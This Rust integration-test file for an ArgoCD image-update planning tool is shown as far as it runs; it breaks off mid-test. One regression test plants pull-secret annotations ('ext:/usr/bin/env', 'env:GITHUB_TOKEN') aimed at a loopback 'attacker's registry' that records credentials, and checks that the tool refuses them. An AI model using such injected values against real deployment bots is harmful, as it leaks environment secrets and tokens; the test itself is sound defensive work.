//! `argocd-image-pr plan` end to end: the real binary, a real `docker-registry` process on
//! loopback, real git repositories. Each test is one user story; each starts its own registry,
//! repositories and temp dirs, so they run in parallel.
//!
//! Tag pagination is tested against a spec-following fake elsewhere: the real registry ignores
//! `?n=` and never paginates.

mod support;

use serde_json::Value;
use support::cli::Plan;
use support::gitops::{App, GitHttpServer, GitRepo, deployment, kustomization};
use support::oci_push::ImageSpec;
use support::registry::{Auth, ClosedPort, TestRegistry, day};

/// A GitOps repository holding one Application (in `apps/<name>.yaml`) whose source is
/// `envs/<name>` of the same repository.
fn app_in(git: &GitRepo, app: App, files: &[(&str, String)]) {
    for (rel, content) in files {
        git.write(&format!("{}/{rel}", app.path), content);
    }
    git.write(&format!("apps/{}.yaml", app.name), &app.to_yaml());
}

fn app(git: &GitRepo, name: &str) -> App {
    App::new(name, &git.url(), &format!("envs/{name}"))
}

#[test]
fn kustomize_app_with_semver_constraint_proposes_the_highest_matching_tag() {
    let reg = TestRegistry::start(Auth::Anonymous);
    let tags = ["1.0.0", "1.1.0", "1.2.3", "1.10.0", "2.0.0", "latest"];
    let digests = reg.push_tags("team/api", &tags);
    let image = reg.image("team/api");
    let git = GitRepo::new();
    app_in(
        &git,
        app(&git, "api").image_list(&format!("api={image}:^1.0")),
        &[("kustomization.yaml", kustomization(&image, "1.0.0")), ("deployment.yaml", deployment("api", &image))],
    );
    git.commit("api runs 1.0.0");

    let plan = Plan::new().apps(git.path()).json();

    plan.assert_exit(0).assert_no_file_errors();
    // 1.10.0 is above 1.2.3 in semver (not in string order); 2.0.0 is outside ^1.0.
    plan.assert_proposes("api", "api", "1.0.0", "1.10.0");
    plan.assert_digest_if_given("api", "api", &digests[3]);
    let app = plan.app("api");
    assert_eq!(app["namespace"], "argocd", "{plan}");
    assert!(app["file"].as_str().unwrap_or("").ends_with("apps/api.yaml"), "file names the manifest{plan}");
    assert_eq!(app["error"], Value::Null, "{plan}");
    let img = plan.image("api", "api");
    assert_eq!(img["image"], image.as_str(), "normalized image name{plan}");
    assert_eq!(img["constraint"], "^1.0", "{plan}");
    assert_eq!(img["strategy"], "semver", "semver is the default strategy{plan}");
    let requests = plan.plan()["stats"]["registry_requests"].as_u64();
    assert!(requests.is_some_and(|n| n >= 1), "stats.registry_requests counts real requests{plan}");
}

#[test]
fn no_downgrade_when_git_is_ahead_of_the_constraint_or_already_newest() {
    let reg = TestRegistry::start(Auth::Anonymous);
    reg.push_tags("team/api", &["1.0.0", "1.1.0", "2.0.0"]);
    reg.push_tags("team/web", &["1.0.0", "1.1.0", "1.2.0"]);
    let (api, web) = (reg.image("team/api"), reg.image("team/web"));
    let git = GitRepo::new();
    // Someone moved api to 2.0.0 by hand; argocd-image-updater would "update" it to 1.1.0.
    let kustomization = format!(
        "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n  - deployment.yaml\n\
         images:\n  - name: {api}\n    newTag: 2.0.0\n  - name: {web}\n    newTag: 1.2.0\n"
    );
    app_in(
        &git,
        app(&git, "shop").image_list(&format!("api={api}:^1.0, web={web}")),
        &[("kustomization.yaml", kustomization), ("deployment.yaml", deployment("shop", &api))],
    );
    git.commit("shop ahead");

    let plan = Plan::new().apps(git.path()).json();

    plan.assert_exit(0).assert_no_file_errors();
    plan.assert_no_update("shop", "api").assert_no_update("shop", "web");
    assert_eq!(plan.image("shop", "api")["current"], "2.0.0", "{plan}");
    assert_eq!(plan.image("shop", "web")["current"], "1.2.0", "{plan}");
}

#[test]
fn v_prefixed_tags_are_semver_and_a_respelling_is_not_an_update() {
    let reg = TestRegistry::start(Auth::Anonymous);
    let digests = reg.push_tags("team/vapi", &["v1.0.0", "v1.1.0", "v1.2.0", "v2.0.0"]);
    reg.push_tags("team/spelled", &["1.0.0", "v1.0.0"]);
    let (vapi, spelled) = (reg.image("team/vapi"), reg.image("team/spelled"));
    let git = GitRepo::new();
    app_in(
        &git,
        app(&git, "vapi").image_list(&format!("vapi={vapi}:^1.0")),
        &[("kustomization.yaml", kustomization(&vapi, "v1.0.0")), ("deployment.yaml", deployment("vapi", &vapi))],
    );
    app_in(
        &git,
        app(&git, "spelled").image_list(&format!("spelled={spelled}")),
        &[("deployment.yaml", deployment("spelled", &format!("{spelled}:1.0.0")))],
    );
    git.commit("v tags");

    let plan = Plan::new().apps(git.path()).json();

    plan.assert_exit(0).assert_no_file_errors();
    plan.assert_proposes("vapi", "vapi", "v1.0.0", "v1.2.0");
    plan.assert_digest_if_given("vapi", "vapi", &digests[2]);
    plan.assert_no_update("spelled", "spelled");
    assert_eq!(plan.image("spelled", "spelled")["current"], "1.0.0", "{plan}");
}

#[test]
fn pre_releases_are_proposed_only_under_a_pre_release_constraint() {
    let reg = TestRegistry::start(Auth::Anonymous);
    reg.push_tags("team/api", &["1.0.0", "1.1.0", "1.2.0-rc.1", "2.0.0-beta.1"]);
    let image = reg.image("team/api");
    let git = GitRepo::new();
    app_in(
        &git,
        app(&git, "stable").image_list(&format!("api={image}:^1.0")),
        &[("deployment.yaml", deployment("stable", &format!("{image}:1.0.0")))],
    );
    app_in(
        &git,
        app(&git, "canary").image_list(&format!("api={image}:^1.2.0-rc.0")),
        &[("deployment.yaml", deployment("canary", &format!("{image}:1.1.0")))],
    );
    git.commit("stable and canary");

    let plan = Plan::new().apps(git.path()).json();

    plan.assert_exit(0).assert_no_file_errors();
    plan.assert_proposes("stable", "api", "1.0.0", "1.1.0");
    plan.assert_proposes("canary", "api", "1.1.0", "1.2.0-rc.1");
}

#[test]
fn newest_build_chooses_by_build_date_on_the_wanted_platform() {
    let reg = TestRegistry::start(Auth::Anonymous);
    let repo = "team/worker";
    let amd = |d, c: &str| ImageSpec::for_platform(&day(d), "linux/amd64", c);
    let arm = |d, c: &str| ImageSpec::for_platform(&day(d), "linux/arm64", c);
    reg.push_image(repo, "build-a", &amd(0, "a"));
    let multi = reg.push_index(repo, "build-b", &[amd(10, "b-amd"), arm(10, "b-arm")]);
    // Newer, but built for arm64 only: a single manifest, and an index with one platform.
    reg.push_image(repo, "build-c", &arm(20, "c"));
    let arm_index = reg.push_index(repo, "build-d", &[arm(30, "d")]);
    // Last in name order, oldest by date: newest-build must not pick it by name.
    reg.push_image(repo, "build-zz-old", &amd(-30, "old"));
    let image = reg.image(repo);
    let git = GitRepo::new();
    app_in(
        &git,
        app(&git, "worker").image_list(&format!("worker={image}")).annotate("worker.update-strategy", "newest-build"),
        &[("deployment.yaml", deployment("worker", &format!("{image}:build-a")))],
    );
    // The old strategy name `latest` still means newest-build.
    app_in(
        &git,
        app(&git, "worker-arm")
            .image_list(&format!("worker={image}"))
            .annotate("worker.update-strategy", "latest")
            .annotate("worker.platforms", "linux/arm64"),
        &[("deployment.yaml", deployment("worker-arm", &format!("{image}:build-b")))],
    );
    git.commit("workers");

    let plan = Plan::new().apps(git.path()).json();

    plan.assert_exit(0).assert_no_file_errors();
    plan.assert_proposes("worker", "worker", "build-a", "build-b");
    plan.assert_digest_if_given("worker", "worker", &multi);
    plan.assert_proposes("worker-arm", "worker", "build-b", "build-d");
    plan.assert_digest_if_given("worker-arm", "worker", &arm_index);
}

#[test]
fn digest_strategy_proposes_the_new_digest_of_a_mutable_tag() {
    let reg = TestRegistry::start(Auth::Anonymous);
    let repo = "team/edge";
    let old = reg.push_image(repo, "stable", &ImageSpec::new(&day(0), "first build"));
    let new = reg.push_image(repo, "stable", &ImageSpec::new(&day(1), "second build"));
    assert_ne!(old, new);
    let image = reg.image(repo);
    let git = GitRepo::new();
    app_in(
        &git,
        app(&git, "edge").image_list(&format!("edge={image}:stable")).annotate("edge.update-strategy", "digest"),
        &[("deployment.yaml", deployment("edge", &format!("{image}:stable@{old}")))],
    );
    app_in(
        &git,
        app(&git, "edge-current").image_list(&format!("edge={image}:stable")).annotate("edge.update-strategy", "digest"),
        &[("deployment.yaml", deployment("edge-current", &format!("{image}:stable@{new}")))],
    );
    git.commit("edge pinned by digest");

    let plan = Plan::new().apps(git.path()).json();

    plan.assert_exit(0).assert_no_file_errors();
    let img = plan.image("edge", "edge");
    assert_eq!(img["error"], Value::Null, "{plan}");
    assert_eq!(img["strategy"], "digest", "{plan}");
    assert!(!img["proposed"].is_null(), "the moved tag is an update{plan}");
    assert_eq!(img["digest"], new.as_str(), "proposes the tag's new digest{plan}");
    plan.assert_no_update("edge-current", "edge");
}

#[test]
fn allow_tags_regexp_and_ignore_tags_filter_candidates() {
    let reg = TestRegistry::start(Auth::Anonymous);
    reg.push_tags("team/lib", &["1.0.0", "1.1.0", "1.2.0", "1.3.0", "1.3.1", "2.0.0"]);
    // A development image tagged by commit SHA, as in product.md; `latest` and branches are noise.
    reg.push_tags("team/dev", &["a1b2c3d", "e4f5a6b", "latest", "feature-x"]);
    let (lib, dev) = (reg.image("team/lib"), reg.image("team/dev"));
    let git = GitRepo::new();
    app_in(
        &git,
        app(&git, "lib")
            .image_list(&format!("lib={lib}"))
            .annotate("lib.allow-tags", r"regexp:^1\.")
            .annotate("lib.ignore-tags", "1.3.*"),
        &[("deployment.yaml", deployment("lib", &format!("{lib}:1.0.0")))],
    );
    app_in(
        &git,
        app(&git, "dev")
            .image_list(&format!("dev={dev}"))
            .annotate("dev.update-strategy", "newest-build")
            .annotate("dev.allow-tags", "regexp:^[0-9a-f]{5,40}$")
            .annotate("dev.ignore-tags", "latest"),
        &[("deployment.yaml", deployment("dev", &format!("{dev}:a1b2c3d")))],
    );
    git.commit("filters");

    let plan = Plan::new().apps(git.path()).json();

    plan.assert_exit(0).assert_no_file_errors();
    plan.assert_proposes("lib", "lib", "1.0.0", "1.2.0");
    plan.assert_proposes("dev", "dev", "a1b2c3d", "e4f5a6b");
}

#[test]
fn a_bad_regexp_or_constraint_fails_only_its_own_image() {
    let reg = TestRegistry::start(Auth::Anonymous);
    reg.push_tags("team/api", &["1.0.0", "1.1.0"]);
    let image = reg.image("team/api");
    let git = GitRepo::new();
    app_in(
        &git,
        app(&git, "mixed")
            .image_list(&format!("good={image}:^1.0, badre={image}, badcon={image}:^^1.x.y"))
            .annotate("badre.allow-tags", "regexp:([unclosed"),
        &[("deployment.yaml", deployment("mixed", &format!("{image}:1.0.0")))],
    );
    git.commit("mixed");

    let plan = Plan::new().apps(git.path()).json();

    plan.assert_exit(1);
    plan.assert_proposes("mixed", "good", "1.0.0", "1.1.0");
    plan.assert_image_error("mixed", "badre");
    plan.assert_image_error("mixed", "badcon");
}

#[test]
fn helm_values_app_reads_the_tag_at_the_annotated_keys() {
    let reg = TestRegistry::start(Auth::Anonymous);
    reg.push_tags("team/web", &["1.3.9", "1.4.0", "1.4.2", "1.5.0"]);
    let image = reg.image("team/web");
    let git = GitRepo::new();
    let values = format!(
        "# Values for the web chart\nreplicaCount: 2\nweb:\n  image:\n    repository: {image}\n    tag: \"1.4.0\"\n  \
         resources: {{}}\n"
    );
    app_in(
        &git,
        app(&git, "web")
            .image_list(&format!("web={image}:~1.4"))
            .annotate("web.helm.image-name", "web.image.repository")
            .annotate("web.helm.image-tag", "web.image.tag"),
        &[("Chart.yaml", "apiVersion: v2\nname: web\nversion: 0.1.0\n".into()), ("values.yaml", values)],
    );
    git.commit("web chart");

    let plan = Plan::new().apps(git.path()).json();

    plan.assert_exit(0).assert_no_file_errors();
    plan.assert_proposes("web", "web", "1.4.0", "1.4.2");
}

#[test]
fn plain_deployment_app_reads_the_container_image() {
    let reg = TestRegistry::start(Auth::Anonymous);
    let digests = reg.push_tags("team/app", &["2.0.0", "2.1.0", "2.1.1", "2.2.0"]);
    let image = reg.image("team/app");
    let git = GitRepo::new();
    app_in(
        &git,
        app(&git, "plain").image_list(&format!("app={image}:~2.1")),
        &[("deployment.yaml", deployment("plain", &format!("{image}:2.1.0")))],
    );
    git.commit("plain manifests");

    let plan = Plan::new().apps(git.path()).json();

    plan.assert_exit(0).assert_no_file_errors();
    plan.assert_proposes("plain", "app", "2.1.0", "2.1.1");
    plan.assert_digest_if_given("plain", "app", &digests[2]);
}

/// One app on a htpasswd registry (user `ci`, password `s3cret`) in a GitOps repository.
fn private_registry_app() -> (TestRegistry, GitRepo) {
    let reg = TestRegistry::start(Auth::htpasswd("ci", "s3cret"));
    reg.push_tags("team/private", &["1.0.0", "1.0.1"]);
    let image = reg.image("team/private");
    let git = GitRepo::new();
    app_in(
        &git,
        app(&git, "private").image_list(&format!("svc={image}:~1.0")),
        &[("deployment.yaml", deployment("private", &format!("{image}:1.0.0")))],
    );
    git.commit("private app");
    (reg, git)
}

fn registries_conf(dir: &std::path::Path, host: &str, credentials: &str) -> std::path::PathBuf {
    let path = dir.join("registries.conf");
    std::fs::write(
        &path,
        format!(
            "registries:\n- name: private\n  prefix: {host}\n  api_url: http://{host}\n  credentials: {credentials}\n"
        ),
    )
    .unwrap();
    path
}

#[test]
fn htpasswd_registry_with_registries_conf_env_credentials() {
    let (reg, git) = private_registry_app();
    let conf_dir = tempfile::tempdir().unwrap();
    let conf = registries_conf(conf_dir.path(), reg.host(), "env:PRIVATE_REGISTRY_CREDS");

    let plan = Plan::new().apps(git.path()).registries_conf(&conf).env("PRIVATE_REGISTRY_CREDS", "ci:s3cret").json();
    plan.assert_exit(0).assert_no_file_errors();
    plan.assert_proposes("private", "svc", "1.0.0", "1.0.1");

    let plan = Plan::new().apps(git.path()).registries_conf(&conf).env("PRIVATE_REGISTRY_CREDS", "ci:wrong").json();
    plan.assert_exit(1);
    plan.assert_image_error("private", "svc");

    // The variable the configuration names is not set: a missing credential, for this image.
    let plan = Plan::new().apps(git.path()).registries_conf(&conf).json();
    plan.assert_exit(1);
    plan.assert_image_error("private", "svc");
}

#[test]
fn htpasswd_registry_with_registries_conf_ext_script_credentials() {
    let (reg, git) = private_registry_app();
    let conf_dir = tempfile::tempdir().unwrap();
    let script = conf_dir.path().join("creds.sh");
    std::fs::write(&script, "#!/bin/sh\necho ci:s3cret\n").unwrap();
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let conf = registries_conf(conf_dir.path(), reg.host(), &format!("ext:{}", script.display()));

    let plan = Plan::new().apps(git.path()).registries_conf(&conf).json();

    plan.assert_exit(0).assert_no_file_errors();
    plan.assert_proposes("private", "svc", "1.0.0", "1.0.1");
}

/// A loopback server that challenges for Basic auth and records every `Authorization` header:
/// the attacker's registry of issue 15.
fn recording_registry() -> (String, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    use std::io::{BufRead, BufReader, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let host = listener.local_addr().unwrap().to_string();
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let record = seen.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                if line.to_ascii_lowercase().starts_with("authorization:") {
                    record.lock().unwrap().push(line.trim().to_string());
                }
                line.clear();
            }
            let _ = (&stream).write_all(
                b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"x\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            );
        }
    });
    (host, seen)
}

#[test]
fn an_annotation_cannot_run_programs_or_read_variables_and_credentials_stay_with_their_registry() {
    // Issue 15: `pull-secret: ext:/usr/bin/env` on an image at the attacker's registry sent the
    // bot's environment there as Basic auth; `env:ANY_VAR` leaked any variable.
    let (attacker, seen) = recording_registry();
    let reg = TestRegistry::start(Auth::htpasswd("ci", "s3cret"));
    reg.push_tags("team/private", &["1.0.0", "1.0.1"]);
    let image = reg.image("team/private");
    let git = GitRepo::new();
    let stolen = format!("{attacker}/team/app");
    let apps = [
        ("by-ext", stolen.as_str(), "ext:/usr/bin/env"),
        ("by-env", stolen.as_str(), "env:GITHUB_TOKEN"),
        ("by-other-registrys-credentials", stolen.as_str(), "env:PRIVATE_REGISTRY_CREDS"),
        ("by-own-credentials", image.as_str(), "env:PRIVATE_REGISTRY_CREDS"),
        ("by-pullsecret", image.as_str(), "pullsecret:argocd/regcred"),
    ];
    for (name, img, secret) in apps {
        app_in(
            &git,
            app(&git, name).image_list(&format!("svc={img}:~1.0")).annotate("svc.pull-secret", secret),
            &[("deployment.yaml", deployment(name, &format!("{img}:1.0.0")))],
        );
    }
    git.commit("pull secrets");
    let conf_dir = tempfile::tempdir().unwrap();
    let conf = registries_conf(conf_dir.path(), reg.host(), "env:PRIVATE_REGISTRY_CREDS");

    let plan = Plan::new()
        .apps(git.path())
        .registries_conf(&conf)
        .env("PRIVATE_REGISTRY_CREDS", "ci:s3cret")
        .env("GITHUB_TOKEN", "ghp_secret_of_the_bot")
        .json();

    plan.assert_exit(1);
    // The operator configured env:PRIVATE_REGISTRY_CREDS for this registry: naming it is fine.
    plan.assert_proposes("by-own-credentials", "svc", "1.0.0", "1.0.1");
    for (name, _, secret) in &apps[..3] {
        let err = plan.assert_image_error(name, "svc");
        assert!(err.contains(secret) && err.contains("refused in an annotation") && err.contains(&attacker), "{name}: {err}{plan}");
    }
    let err = plan.assert_image_error("by-pullsecret", "svc").to_lowercase();
    assert!(err.contains("kubernetes"), "by-pullsecret: the error should say Kubernetes secrets are not supported yet, got {err:?}{plan}");
    assert!(seen.lock().unwrap().is_empty(), "the attacker's registry received credentials: {:?}", seen.lock().unwrap());
}

#[test]
fn a_registry_with_a_private_ca_is_trusted_through_ca_file_or_ca_data() {
    // Issue 15: `ca_file`/`ca_data` were accepted and ignored, which pushed users to `insecure:`.
    let reg = TestRegistry::start(Auth::Anonymous);
    reg.push_tags("team/tls", &["1.0.0", "1.0.1"]);
    let tls = reg.tls_twin();
    let image = format!("{}/team/tls", tls.host());
    let git = GitRepo::new();
    app_in(
        &git,
        app(&git, "tls").image_list(&format!("svc={image}:~1.0")),
        &[("deployment.yaml", deployment("tls", &format!("{image}:1.0.0")))],
    );
    git.commit("an image on a registry with a private CA");
    let dir = tempfile::tempdir().unwrap();
    let conf = |name: &str, ca: &str| {
        let path = dir.path().join(name);
        let head = format!("registries:\n- name: private-ca\n  prefix: {0}\n  api_url: https://{0}\n", tls.host());
        std::fs::write(&path, format!("{head}{ca}")).unwrap();
        path
    };
    let pem = std::fs::read_to_string(&tls.ca.ca_pem).unwrap();
    let indented: String = pem.lines().map(|l| format!("    {l}\n")).collect();
    let with_file = conf("file.conf", &format!("  ca_file: {}\n", tls.ca.ca_pem.display()));
    let with_data = conf("data.conf", &format!("  ca_data: |\n{indented}"));
    let without = conf("none.conf", "");

    for path in [&with_file, &with_data] {
        let plan = Plan::new().apps(git.path()).registries_conf(path).json();
        plan.assert_exit(0).assert_no_file_errors();
        plan.assert_proposes("tls", "svc", "1.0.0", "1.0.1");
    }
    let plan = Plan::new().apps(git.path()).registries_conf(&without).json();
    plan.assert_exit(1);
    let err = plan.assert_image_error("tls", "svc");
    assert!(err.contains(tls.host()) && err.to_lowercase().contains("certificate"), "the TLS failure names the registry: {err}{plan}");

    // A ca_file that cannot be read is an error at start that names it.
    let missing = conf("missing.conf", "  ca_file: /nonexistent/ca.pem\n");
    let plan = Plan::new().apps(git.path()).registries_conf(&missing).run();
    assert_ne!(plan.code, 0, "{plan}");
    let said = format!("{}{}", plan.stdout, plan.stderr);
    assert!(said.contains("/nonexistent/ca.pem") && said.contains("private-ca"), "{plan}");
}

#[test]
fn a_default_registry_in_registries_conf_owns_image_names_written_without_registry_host() {
    // registries.conf makes `registry.example` (served by the test registry) the default
    // registry, with default namespace `base`; Docker Hub gets an entry whose API is a port
    // nothing listens on, so an image that went there fails, deterministically and offline.
    let reg = TestRegistry::start(Auth::Anonymous);
    let digests = reg.push_tags("team/app", &["1.0.0", "1.1.0", "1.2.0", "2.0.0"]);
    reg.push_tags("base/tool", &["0.1.0", "0.2.0"]);
    let hub = ClosedPort::new();
    let conf_dir = tempfile::tempdir().unwrap();
    let conf = conf_dir.path().join("registries.conf");
    std::fs::write(
        &conf,
        format!(
            "registries:\n- name: Internal\n  prefix: registry.example\n  api_url: http://{}\n  defaultns: base\n  \
             default: true\n- name: Docker Hub\n  prefix: docker.io\n  api_url: http://{}\n",
            reg.host(),
            hub.host()
        ),
    )
    .unwrap();
    let git = GitRepo::new();
    // The image-list, the kustomization and the Deployment all write the bare name.
    app_in(
        &git,
        app(&git, "app").image_list("app=team/app:^1.0"),
        &[("kustomization.yaml", kustomization("team/app", "1.0.0")), ("deployment.yaml", deployment("app", "team/app"))],
    );
    // A single-component name: no `library/`, the registry's `defaultns` instead.
    app_in(&git, app(&git, "tool").image_list("tool"), &[("deployment.yaml", deployment("tool", "tool:0.1.0"))]);
    // Written with a host: still Docker Hub, whatever the default.
    app_in(
        &git,
        app(&git, "hub").image_list("hub=docker.io/team/app:^1.0"),
        &[("deployment.yaml", deployment("hub", "docker.io/team/app:1.0.0"))],
    );
    git.commit("bare image names");

    let plan = Plan::new().apps(git.path()).registries_conf(&conf).json();

    plan.assert_exit(1).assert_no_file_errors();
    plan.assert_proposes("app", "app", "1.0.0", "1.2.0");
    plan.assert_digest_if_given("app", "app", &digests[2]);
    assert_eq!(plan.image("app", "app")["image"], "registry.example/team/app", "the default registry's name{plan}");
    let source = plan.image("app", "app")["source"].as_str().unwrap_or_default().to_string();
    assert!(source.starts_with("envs/app/kustomization.yaml:"), "read from the kustomization's bare entry: {source}{plan}");
    let changes = plan.app("app")["changes"].as_array().cloned().unwrap_or_default();
    assert_eq!(changes.len(), 1, "one file changes{plan}");
    assert_eq!(changes[0]["file"], "envs/app/kustomization.yaml", "{plan}");
    let diff = changes[0]["diff"].as_str().unwrap_or_default();
    assert!(diff.contains("-    newTag: 1.0.0\n+    newTag: 1.2.0\n"), "the bare entry gets the new tag:\n{diff}{plan}");

    plan.assert_proposes("tool", "tool", "0.1.0", "0.2.0");
    assert_eq!(plan.image("tool", "tool")["image"], "registry.example/tool", "no library/ off Docker Hub{plan}");

    let err = plan.assert_image_error("hub", "hub");
    assert_eq!(plan.image("hub", "hub")["image"], "docker.io/team/app", "{plan}");
    assert!(err.contains("docker.io"), "the error names Docker Hub, not the default registry: {err}{plan}");
    assert!(err.contains("argocd/hub"), "the error names the Application: {err}{plan}");
}

/// A docker `config.json`: `auth` only, as `docker login` writes it, or with `username` and
/// `password` beside it, as in a `.dockerconfigjson` pull secret.
fn docker_config(dir: &std::path::Path, host: &str, user: &str, pass: &str, pull_secret_form: bool) -> std::path::PathBuf {
    use base64::Engine as _;
    let auth = base64::engine::general_purpose::STANDARD.encode(format!("{user}:{pass}"));
    let path = dir.join("config.json");
    let entry = if pull_secret_form {
        serde_json::json!({ "username": user, "password": pass, "auth": auth })
    } else {
        serde_json::json!({ "auth": auth })
    };
    let body = serde_json::json!({ "auths": { host: entry } });
    std::fs::write(&path, serde_json::to_vec_pretty(&body).unwrap()).unwrap();
    path
}

/// A token registry with one app on it; the tokens issued while pushing are already counted.
fn token_registry_app(user: &str, pass: &str) -> (TestRegistry, GitRepo) {
    let reg = TestRegistry::start(Auth::token(user, pass));
    reg.push_tags("team/secure", &["3.0.0", "3.1.0", "4.0.0"]);
    let image = reg.image("team/secure");
    let git = GitRepo::new();
    app_in(
        &git,
        app(&git, "secure").image_list(&format!("svc={image}:3.x")),
        &[("kustomization.yaml", kustomization(&image, "3.0.0")), ("deployment.yaml", deployment("secure", &image))],
    );
    git.commit("secure app");
    (reg, git)
}

#[test]
fn token_registry_with_docker_config_credentials() {
    let (reg, git) = token_registry_app("robot", "t0ken-pass");
    let ts = reg.token_server().unwrap();
    let dir = tempfile::tempdir().unwrap();

    let before = ts.issued();
    let good = docker_config(dir.path(), reg.host(), "robot", "t0ken-pass", false);
    let plan = Plan::new().apps(git.path()).docker_config(&good).json();
    plan.assert_exit(0).assert_no_file_errors();
    plan.assert_proposes("secure", "svc", "3.0.0", "3.1.0");
    assert!(ts.issued() > before, "the bot got its token from the realm{plan}");

    let refused = ts.refused();
    let bad_dir = tempfile::tempdir().unwrap();
    let bad = docker_config(bad_dir.path(), reg.host(), "robot", "wrong", false);
    let plan = Plan::new().apps(git.path()).docker_config(&bad).json();
    plan.assert_exit(1);
    plan.assert_image_error("secure", "svc");
    assert!(ts.refused() > refused, "the token server refused the wrong credentials{plan}");
}

#[test]
fn gcr_json_key_from_a_dockerconfigjson_pull_secret_works() {
    // A GCR service-account key as in a `.dockerconfigjson` pull secret: user `_json_key`, the
    // key's JSON (quotes, newlines, colons) as the password.
    let key = "{\n  \"type\": \"service_account\",\n  \"project_id\": \"some-project\",\n  \
               \"private_key_id\": \"abc123\",\n  \"client_email\": \"bot@some-project.iam.gserviceaccount.com\"\n}";
    let (reg, git) = token_registry_app("_json_key", key);
    let dir = tempfile::tempdir().unwrap();
    let config = docker_config(dir.path(), reg.host(), "_json_key", key, true);

    let plan = Plan::new().apps(git.path()).docker_config(&config).json();

    plan.assert_exit(0).assert_no_file_errors();
    plan.assert_proposes("secure", "svc", "3.0.0", "3.1.0");
}

#[test]
fn an_unreachable_registry_fails_only_its_images() {
    let reg = TestRegistry::start(Auth::Anonymous);
    reg.push_tags("team/alive", &["1.0.0", "1.1.0"]);
    let alive = reg.image("team/alive");
    let closed = ClosedPort::new();
    let gone = format!("{}/team/gone", closed.host());
    let git = GitRepo::new();
    app_in(
        &git,
        app(&git, "gone").image_list(&format!("gone={gone}:^1.0")),
        &[("deployment.yaml", deployment("gone", &format!("{gone}:1.0.0")))],
    );
    app_in(
        &git,
        app(&git, "alive").image_list(&format!("alive={alive}:^1.0")),
        &[("deployment.yaml", deployment("alive", &format!("{alive}:1.0.0")))],
    );
    git.commit("one registry is down");

    let plan = Plan::new().apps(git.path()).json();

    plan.assert_exit(1);
    plan.assert_image_error("gone", "gone");
    assert_eq!(plan.image("gone", "gone")["image"], gone.as_str(), "{plan}");
    plan.assert_proposes("alive", "alive", "1.0.0", "1.1.0");
}

#[test]
fn a_broken_yaml_file_is_reported_by_name_while_other_applications_are_planned() {
    let reg = TestRegistry::start(Auth::Anonymous);
    reg.push_tags("team/api", &["1.0.0", "1.1.0"]);
    let image = reg.image("team/api");
    let git = GitRepo::new();
    for name in ["one", "two"] {
        git.write(&format!("envs/{name}/deployment.yaml"), &deployment(name, &format!("{image}:1.0.0")));
    }
    // Two Applications and a ConfigMap in one multi-document file: the ConfigMap is ignored.
    let two_apps = format!(
        "{}---\n{}---\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: not-an-app\ndata:\n  a: b\n",
        app(&git, "one").image_list(&format!("api={image}:^1.0")).to_yaml(),
        app(&git, "two").image_list(&format!("api={image}:^1.0")).to_yaml()
    );
    git.write("apps/two-apps.yaml", &two_apps);
    git.write(
        "apps/broken.yaml",
        "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata:\n  name: [unclosed\n  namespace: argocd\n",
    );
    git.commit("one broken file");

    let plan = Plan::new().apps(git.path()).json();

    plan.assert_exit(1);
    let broken: Vec<&Value> = plan
        .errors()
        .iter()
        .filter(|e| e["file"].as_str().is_some_and(|f| f.ends_with("apps/broken.yaml")))
        .collect();
    assert_eq!(broken.len(), 1, "errors names apps/broken.yaml once{plan}");
    assert!(!broken[0]["error"].as_str().unwrap_or("").is_empty(), "{plan}");
    assert_eq!(plan.errors().len(), 1, "only the broken file is an error{plan}");
    plan.assert_proposes("one", "api", "1.0.0", "1.1.0");
    plan.assert_proposes("two", "api", "1.0.0", "1.1.0");
    assert_eq!(plan.applications().len(), 2, "the ConfigMap is not an Application{plan}");
}

#[test]
fn one_git_repository_is_fetched_once_however_many_applications_use_it() {
    let reg = TestRegistry::start(Auth::Anonymous);
    reg.push_tags("team/api", &["1.0.0", "1.1.0"]);
    let image = reg.image("team/api");
    // The manifests live in a repository served over smart HTTP, which counts fetches.
    let served = tempfile::tempdir().unwrap();
    let manifests = GitRepo::new();
    for name in ["a", "b", "c"] {
        manifests.write(&format!("envs/{name}/deployment.yaml"), &deployment(name, &format!("{image}:1.0.0")));
    }
    manifests.commit("three environments");
    let status = std::process::Command::new("git")
        .args(["clone", "-q", "--bare"])
        .arg(manifests.path())
        .arg(served.path().join("gitops.git"))
        .status()
        .unwrap();
    assert!(status.success());
    let server = GitHttpServer::start(served.path());
    let url = server.url("gitops.git");
    let apps_of = |names: &[&str]| {
        let apps = GitRepo::new();
        for name in names {
            let a = App::new(name, &url, &format!("envs/{name}")).image_list(&format!("api={image}:^1.0"));
            apps.write(&format!("{name}.yaml"), &a.to_yaml());
        }
        apps.commit("apps");
        apps
    };
    let (one, three) = (apps_of(&["a"]), apps_of(&["a", "b", "c"]));

    let plan = Plan::new().apps(one.path()).json();
    plan.assert_exit(0);
    plan.assert_proposes("a", "api", "1.0.0", "1.1.0");
    let fetches_for_one = server.ref_advertisements();
    assert!(fetches_for_one >= 1, "the repository was fetched over HTTP{plan}");

    let plan = Plan::new().apps(three.path()).json();
    plan.assert_exit(0);
    for name in ["a", "b", "c"] {
        plan.assert_proposes(name, "api", "1.0.0", "1.1.0");
    }
    let fetches_for_three = server.ref_advertisements() - fetches_for_one;
    assert_eq!(fetches_for_three, fetches_for_one, "3 Applications on one repository fetch it as often as 1{plan}");
}

#[test]
fn apps_given_as_git_urls_and_directories_together() {
    let reg = TestRegistry::start(Auth::Anonymous);
    reg.push_tags("team/api", &["1.0.0", "1.1.0"]);
    let image = reg.image("team/api");
    let remote = GitRepo::new();
    app_in(
        &remote,
        app(&remote, "from-url").image_list(&format!("api={image}:^1.0")),
        &[("deployment.yaml", deployment("from-url", &format!("{image}:1.0.0")))],
    );
    remote.commit("app in a remote repository");
    let local = GitRepo::new();
    app_in(
        &local,
        app(&local, "from-dir").image_list(&format!("api={image}:^1.0")),
